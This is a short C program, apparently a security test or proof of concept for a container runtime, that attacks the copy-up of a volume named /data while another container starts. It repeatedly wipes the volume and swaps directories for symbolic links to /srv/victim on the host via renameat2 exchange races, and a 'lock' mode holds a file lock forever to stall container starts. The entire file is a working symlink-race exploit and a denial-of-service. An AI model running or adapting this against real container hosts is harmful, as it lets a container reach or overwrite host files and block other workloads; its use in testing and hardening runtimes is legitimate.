// SPDX-License-Identifier: MIT
// Attacks the first content of the volume /data while the start of another container copies it:
// exchanges directories of the copy for symbolic links to /srv/victim on the host. It tries two
// ways in turn: the marker of version 0.1 in the volume, and an empty volume.
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/file.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static long now(void) {
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return time.tv_sec * 1000 + time.tv_nsec / 1000000;
}

static void empty(int directory) {
    DIR *open = fdopendir(openat(directory, ".", O_RDONLY | O_DIRECTORY));
    if (!open)
        return;
    for (struct dirent *entry; (entry = readdir(open));) {
        if (!strcmp(entry->d_name, ".") || !strcmp(entry->d_name, ".."))
            continue;
        if (unlinkat(dirfd(open), entry->d_name, 0)) {
            int sub = openat(dirfd(open), entry->d_name, O_RDONLY | O_DIRECTORY | O_NOFOLLOW);
            if (sub >= 0) {
                empty(sub);
                close(sub);
            }
            unlinkat(dirfd(open), entry->d_name, AT_REMOVEDIR);
        }
    }
    closedir(open);
}

int main(int count, char **arguments) {
    if (chdir("/data"))
        return 1;
    if (count > 1 && !strcmp(arguments[1], "lock")) {
        // A container start that waits for this lock waits forever.
        if (flock(open(".", O_RDONLY), LOCK_EX))
            return 2;
        puts("locked");
        fflush(stdout);
        for (;;)
            pause();
    }
    puts("attacking");
    fflush(stdout);
    int here = open(".", O_RDONLY | O_DIRECTORY);
    for (unsigned round = 0;; round++) {
        empty(here);
        if (round % 2) {
            mkdir(".sdme-copy-up", 0777);
            for (long end = now() + 300; now() < end;) {
                mkdir("x", 0777);
                symlink("/srv/victim", "x/content");
                if (!access(".sdme-copy-up/content", F_OK) && !renameat2(AT_FDCWD, "x", AT_FDCWD, ".sdme-copy-up", RENAME_EXCHANGE))
                    break;
            }
        } else {
            for (long end = now() + 2000; now() < end;) {
                if (access("sub", F_OK))
                    continue;
                symlink("/srv/victim", "x");
                if (!renameat2(AT_FDCWD, "x", AT_FDCWD, "sub", RENAME_EXCHANGE)) {
                    puts("exchanged");
                    fflush(stdout);
                }
                break;
            }
        }
        usleep(50000);
    }
}
